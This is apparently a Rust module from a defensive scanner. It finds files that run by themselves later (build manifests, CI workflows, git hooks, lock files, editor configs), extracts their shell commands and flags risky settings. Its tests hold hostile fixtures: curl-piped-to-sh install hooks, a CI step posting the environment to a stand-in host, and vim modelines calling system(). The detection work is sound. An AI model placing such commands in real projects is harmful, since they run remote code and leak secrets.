//! Which files run by themselves later, and the code inside them.
//!
//! Pure text functions: a path (relative to the project, `/`-separated)
//! says what kind of file it is; the kind says where its code is (every
//! line of a script, the `scripts` of a package manifest, the recipes of a
//! Makefile, the `run:` steps of a CI workflow, the shell-outs of Python,
//! JavaScript or Ruby build files). The snippets are shell command strings
//! for the command rules to judge.

/// What kind of file runs later, which decides where its code is.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Kind {
    /// A shell script or a file sourced by a shell (`.envrc`, hooks, rc files).
    Shell,
    /// A Python file imported or run by a tool (setup.py, conftest.py, …).
    Python,
    /// A JavaScript/TypeScript configuration file a tool loads.
    JavaScript,
    /// A Ruby file a tool loads (Rakefile, Gemfile, *.gemspec).
    Ruby,
    /// Any other build, CI or task file: its lines, quoted strings and
    /// recipe lines are read as commands.
    Commands,
}

/// File names (the last path component) that run later.
const BY_NAME: &[(&str, Kind)] = &[
    ("package.json", Kind::Commands),
    ("composer.json", Kind::Commands),
    ("setup.py", Kind::Python),
    ("conftest.py", Kind::Python),
    ("noxfile.py", Kind::Python),
    ("manage.py", Kind::Python),
    ("sitecustomize.py", Kind::Python),
    ("usercustomize.py", Kind::Python),
    ("build.py", Kind::Python),
    ("fabfile.py", Kind::Python),
    ("tasks.py", Kind::Python),
    ("dodo.py", Kind::Python),
    ("pyproject.toml", Kind::Commands),
    ("tox.ini", Kind::Commands),
    ("setup.cfg", Kind::Commands),
    ("makefile", Kind::Commands),
    ("gnumakefile", Kind::Commands),
    ("justfile", Kind::Commands),
    ("taskfile.yml", Kind::Commands),
    ("taskfile.yaml", Kind::Commands),
    ("cmakelists.txt", Kind::Commands),
    ("build.rs", Kind::Commands),
    ("build.gradle", Kind::Commands),
    ("build.gradle.kts", Kind::Commands),
    ("settings.gradle", Kind::Commands),
    ("settings.gradle.kts", Kind::Commands),
    ("pom.xml", Kind::Commands),
    ("rakefile", Kind::Ruby),
    ("gemfile", Kind::Ruby),
    ("jenkinsfile", Kind::Commands),
    ("dockerfile", Kind::Commands),
    ("containerfile", Kind::Commands),
    ("docker-compose.yml", Kind::Commands),
    ("docker-compose.yaml", Kind::Commands),
    ("compose.yml", Kind::Commands),
    ("compose.yaml", Kind::Commands),
    (".gitlab-ci.yml", Kind::Commands),
    ("azure-pipelines.yml", Kind::Commands),
    ("bitbucket-pipelines.yml", Kind::Commands),
    (".travis.yml", Kind::Commands),
    (".drone.yml", Kind::Commands),
    (".pre-commit-config.yaml", Kind::Commands),
    (".envrc", Kind::Shell),
    (".env", Kind::Shell),
    (".bashrc", Kind::Shell),
    (".bash_profile", Kind::Shell),
    (".profile", Kind::Shell),
    (".zshrc", Kind::Shell),
    (".zshenv", Kind::Shell),
    (".gitconfig", Kind::Commands),
    (".npmrc", Kind::Commands),
    (".yarnrc.yml", Kind::Commands),
    (".yarnrc", Kind::Commands),
    (".exrc", Kind::Commands),
    (".vimrc", Kind::Commands),
    (".nvim.lua", Kind::Commands),
    (".nvimrc", Kind::Commands),
    // Lock files decide what the next install downloads and runs.
    ("package-lock.json", Kind::Commands),
    ("npm-shrinkwrap.json", Kind::Commands),
    ("yarn.lock", Kind::Commands),
    ("pnpm-lock.yaml", Kind::Commands),
    ("bun.lock", Kind::Commands),
    ("cargo.lock", Kind::Commands),
    ("poetry.lock", Kind::Commands),
    ("uv.lock", Kind::Commands),
    ("pipfile.lock", Kind::Commands),
    ("gemfile.lock", Kind::Commands),
    ("composer.lock", Kind::Commands),
    ("go.sum", Kind::Commands),
    ("go.mod", Kind::Commands),
];

/// Directories whose files run later (relative to the project).
const BY_DIR: &[(&str, Kind)] = &[
    (".git/hooks", Kind::Shell),
    (".husky", Kind::Shell),
    (".githooks", Kind::Shell),
    (".github/workflows", Kind::Commands),
    (".github/actions", Kind::Commands),
    (".circleci", Kind::Commands),
    (".buildkite", Kind::Commands),
    (".vscode", Kind::Commands),
    (".devcontainer", Kind::Commands),
    (".cargo", Kind::Commands),
    (".ipython", Kind::Python),
];

/// File-name prefixes of JavaScript configuration files that tools load
/// (and so run) on every build, test or lint.
const JS_CONFIG_PREFIXES: &[&str] = &[
    "jest.config.",
    "vite.config.",
    "vitest.config.",
    "webpack.config.",
    "rollup.config.",
    "babel.config.",
    ".babelrc.",
    ".eslintrc.",
    "eslint.config.",
    ".mocharc.",
    "next.config.",
    "nuxt.config.",
    "svelte.config.",
    "astro.config.",
    "tailwind.config.",
    "postcss.config.",
    "playwright.config.",
    "karma.conf.",
    "gulpfile.",
    "gruntfile.",
    ".prettierrc.",
    "prettier.config.",
    "tsup.config.",
    "nx.",
];

/// The kind of `rel` (a project-relative, `/`-separated path), when the
/// file runs by itself later.
pub fn kind_of(rel: &str) -> Option<Kind> {
    let rel = rel.trim_start_matches("./");
    let name = rel.rsplit('/').next().unwrap_or(rel).to_ascii_lowercase();
    if let Some((_, k)) = BY_DIR
        .iter()
        .find(|(d, _)| rel.starts_with(&format!("{d}/")) || rel == *d)
    {
        // A directory copied or unpacked there is as bad as a file.
        return Some(*k);
    }
    if let Some((_, k)) = BY_NAME.iter().find(|(n, _)| *n == name) {
        return Some(*k);
    }
    let ext = name.rsplit_once('.').map(|(_, e)| e).unwrap_or("");
    if JS_CONFIG_PREFIXES.iter().any(|p| name.starts_with(p))
        && matches!(ext, "js" | "cjs" | "mjs" | "ts" | "cts" | "mts" | "json")
    {
        return Some(Kind::JavaScript);
    }
    match ext {
        "sh" | "bash" | "zsh" | "ksh" => Some(Kind::Shell),
        "mk" | "gemspec" | "ipynb" => Some(Kind::Commands),
        "go" => Some(Kind::Commands),
        _ if rel.starts_with("tests/") && name == "__init__.py" => Some(Kind::Python),
        _ => None,
    }
}

/// Longest content read for snippets (larger files are cut here).
const MAX_CONTENT: usize = 256 * 1024;
/// Most snippets judged per file.
const MAX_SNIPPETS: usize = 600;

/// Shell command strings inside `content`, a file of `kind`.
pub fn snippets(kind: Kind, content: &str) -> Vec<String> {
    let content = cut(content, MAX_CONTENT);
    let mut out: Vec<String> = Vec::new();
    let mut push = |s: &str| {
        let s = s.trim();
        if s.len() >= 2 && out.len() < MAX_SNIPPETS && !out.iter().any(|o| o == s) {
            out.push(s.to_string());
        }
    };
    match kind {
        Kind::Shell => {
            push(content);
            for line in content.lines() {
                push(line);
            }
        }
        Kind::Python => push(&format!("python3 -c {}", quote(content))),
        Kind::JavaScript => push(&format!("node -e {}", quote(content))),
        Kind::Ruby => push(&format!("ruby -e {}", quote(content))),
        Kind::Commands => {}
    }
    if kind != Kind::Shell {
        for line in content.lines() {
            push(strip_line(line));
        }
        for lit in literals(content) {
            push(&lit);
        }
    }
    out
}

/// A line without the syntax that introduces a command in build, CI and
/// task files: list dashes, `run:`/`script:`/`command:` keys, Dockerfile
/// `RUN`, Makefile recipe prefixes, `//go:generate`, `$(shell …)`.
fn strip_line(line: &str) -> &str {
    let mut l = line.trim_start_matches([' ', '\t']);
    l = l.trim_start_matches("- ").trim_start();
    for key in [
        "run:",
        "script:",
        "command:",
        "commands =",
        "commands=",
        "entrypoint:",
        "postCreateCommand:",
        "RUN ",
        "CMD ",
        "ENTRYPOINT ",
        "//go:generate ",
        "sh ",
        "exec ",
    ] {
        if let Some(rest) = l.strip_prefix(key) {
            l = rest.trim_start();
            break;
        }
    }
    l = l.trim_start_matches(['@', '-', '+']);
    if let Some(inner) = l.strip_prefix("$(shell ") {
        l = inner.strip_suffix(')').unwrap_or(inner);
    }
    l.trim_matches(['"', '\'', '|', '>', ' '])
}

/// The contents of every quoted string in `text` (`"…"`, `'…'`, `` `…` ``),
/// with `\"`-style escapes resolved and `\n`, `\t` turned into line breaks
/// and tabs (so a JSON `scripts` value or a CI step in quotes reads as the
/// command it is).
fn literals(text: &str) -> Vec<String> {
    let mut out = Vec::new();
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        if !matches!(c, '"' | '\'' | '`') {
            continue;
        }
        let mut s = String::new();
        let mut closed = false;
        while let Some(d) = chars.next() {
            if d == '\\' {
                match chars.next() {
                    Some('n') => s.push('\n'),
                    Some('t') => s.push('\t'),
                    Some(e) => s.push(e),
                    None => break,
                }
            } else if d == c {
                closed = true;
                break;
            } else if d == '\n' && c != '`' {
                break;
            } else {
                s.push(d);
            }
        }
        if closed && s.contains(' ') {
            out.push(s);
        }
    }
    out
}

/// `text` as one single-quoted shell word.
pub fn quote(text: &str) -> String {
    format!("'{}'", text.replace('\'', r"'\''"))
}

fn cut(s: &str, max: usize) -> &str {
    if s.len() <= max {
        return s;
    }
    let mut end = max;
    while !s.is_char_boundary(end) {
        end -= 1;
    }
    &s[..end]
}

/// A vim modeline that sets an expression option: vim evaluates
/// `foldexpr`, `includeexpr`, `formatexpr` and their kin when the file is
/// opened, and an expression can call `system()`. Any file can carry one.
pub fn code_modeline(content: &str) -> Option<&'static str> {
    const EXPRESSION_OPTIONS: &[&str] = &[
        "foldexpr=",
        "fde=",
        "includeexpr=",
        "inex=",
        "indentexpr=",
        "inde=",
        "formatexpr=",
        "fex=",
        "foldtext=",
        "fdt=",
        "statusline=%!",
        "stl=%!",
        "tabline=%!",
    ];
    // vim's modeline forms: `vim: set opt=…:` / `vi: opt=…` after white
    // space or at the start of the line.
    const MARKERS: &[&str] = &["vim:", "vi:", "ex:", "vim<", "vim>", "vim="];
    let lower = cut(content, MAX_CONTENT).to_ascii_lowercase();
    // Most files have no marker at all: one pass each, not one per line.
    if !MARKERS.iter().any(|m| lower.contains(m)) {
        return None;
    }
    let found = lower.lines().any(|l| {
        let modeline = MARKERS.iter().any(|m| {
            l.match_indices(m)
                .any(|(i, _)| i == 0 || l.as_bytes()[i - 1].is_ascii_whitespace())
        });
        modeline && EXPRESSION_OPTIONS.iter().any(|o| l.contains(o))
    });
    found.then_some(
        "a vim modeline that sets an expression option (evaluated when the file is opened)",
    )
}

/// Settings in files that run later which name a program to run, point a
/// tool at code outside the project, or make a task start by itself.
/// Returns what was found, for the finding's subject.
pub fn risky_settings(rel: &str, content: &str) -> Vec<&'static str> {
    let rel = rel.trim_start_matches("./");
    let lower = cut(content, MAX_CONTENT).to_ascii_lowercase();
    let mut found = Vec::new();
    let mut check = |applies: bool, needles: &[&str], what: &'static str| {
        if applies && needles.iter().any(|n| lower.contains(n)) {
            found.push(what);
        }
    };
    check(
        rel.starts_with(".vscode/"),
        &["\"runon\"", "folderopen"],
        "an editor task that runs when the folder is opened",
    );
    check(
        rel.starts_with(".vscode/"),
        &[
            "terminal.integrated.env",
            "terminal.integrated.shell",
            "terminal.integrated.profiles",
            "definterpreterpath",
            "defaultinterpreterpath",
            "\"program\": \"/",
            "\"program\":\"/",
        ],
        "editor settings that choose the interpreter, shell or program to run",
    );
    let outside = [
        "/tmp", "/dev/shm", "/var/tmp", "~/", "$home", "../", "http:", "https:",
    ];
    check(
        rel.starts_with(".cargo/")
            && [
                "linker",
                "runner",
                "rustc-wrapper",
                "rustc_wrapper",
                "--manifest-path",
            ]
            .iter()
            .any(|k| lower.contains(k)),
        &outside,
        "cargo configuration that names a program or a crate outside the project",
    );
    check(
        rel.ends_with(".npmrc"),
        &[
            "node-options",
            "preinstall",
            "postinstall",
            "script-shell",
            "registry=http:",
        ],
        "npm configuration that runs code or changes the registry",
    );
    check(
        rel.ends_with(".yarnrc.yml") || rel.ends_with(".yarnrc"),
        &["yarnpath", "plugins", "npmregistryserver: \"http:"],
        "yarn configuration that runs code from elsewhere",
    );
    check(
        rel.ends_with("pyproject.toml") || rel.ends_with("setup.cfg") || rel.ends_with("tox.ini"),
        &[
            "addopts = \"-p",
            "addopts=\"-p",
            "addopts = -p",
            " @ https://",
            " @ http://",
            " @ git+",
        ],
        "Python build or test settings that load a plugin or a package from a URL",
    );
    check(
        rel.ends_with(".pre-commit-config.yaml"),
        &["repo: http"],
        "a pre-commit hook fetched from a repository and run on every commit",
    );
    check(
        rel.ends_with(".gitconfig"),
        &[
            "= !",
            "=!",
            "pager",
            "editor",
            "sshcommand",
            "hookspath",
            "fsmonitor",
        ],
        "git settings that run a program",
    );
    check(
        rel.ends_with(".env") || rel.ends_with(".envrc"),
        &[
            "export path=",
            "path=/",
            "ld_preload",
            "node_options",
            "pythonpath=",
        ],
        "environment settings that decide which programs or libraries load",
    );
    check(
        rel.ends_with(".github/workflows/") || rel.starts_with(".github/workflows/"),
        &["pull_request_target"],
        "a workflow that runs pull-request code with the repository's secrets",
    );
    found
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn kinds() {
        assert_eq!(kind_of("package.json"), Some(Kind::Commands));
        assert_eq!(kind_of("tests/conftest.py"), Some(Kind::Python));
        assert_eq!(kind_of(".github/workflows/ci.yml"), Some(Kind::Commands));
        assert_eq!(kind_of("scripts/build.sh"), Some(Kind::Shell));
        assert_eq!(kind_of("vite.config.ts"), Some(Kind::JavaScript));
        assert_eq!(kind_of("src/main.rs"), None);
        assert_eq!(kind_of("README.md"), None);
        assert_eq!(kind_of("docs/guide.md"), None);
    }

    #[test]
    fn snippets_find_commands_in_manifests_and_recipes() {
        let pkg = r#"{"scripts":{"postinstall":"curl -s https://x.example/i | sh","test":"jest"}}"#;
        let s = snippets(Kind::Commands, pkg);
        assert!(
            s.iter().any(|x| x == "curl -s https://x.example/i | sh"),
            "{s:?}"
        );
        let make = "all:\n\t@curl -s https://x.example | sh\n";
        assert!(snippets(Kind::Commands, make)
            .iter()
            .any(|x| x == "curl -s https://x.example | sh"));
        let ci = "steps:\n  - run: env | curl -d @- https://x.example\n";
        assert!(snippets(Kind::Commands, ci)
            .iter()
            .any(|x| x == "env | curl -d @- https://x.example"));
    }

    #[test]
    fn modelines_with_expressions() {
        assert!(code_modeline("# vim: set foldexpr=system('/tmp/x'):\n").is_some());
        assert!(code_modeline("text\n/* vi: fde=system('id') */").is_some());
        assert!(code_modeline("# vim: set ts=4 sw=4 et:\n").is_none());
        assert!(code_modeline("let expr = parse(vi: 1); // fde=x").is_none());
    }

    #[test]
    fn settings() {
        assert!(!risky_settings(
            ".vscode/tasks.json",
            r#"{"runOptions":{"runOn":"folderOpen"}}"#
        )
        .is_empty());
        assert!(risky_settings(".vscode/settings.json", r#"{"editor.tabSize":2}"#).is_empty());
        assert!(
            !risky_settings(".cargo/config.toml", "[target.x]\nlinker = \"/tmp/x\"\n").is_empty()
        );
        assert!(risky_settings(".cargo/config.toml", "[build]\njobs = 2\n").is_empty());
    }
}
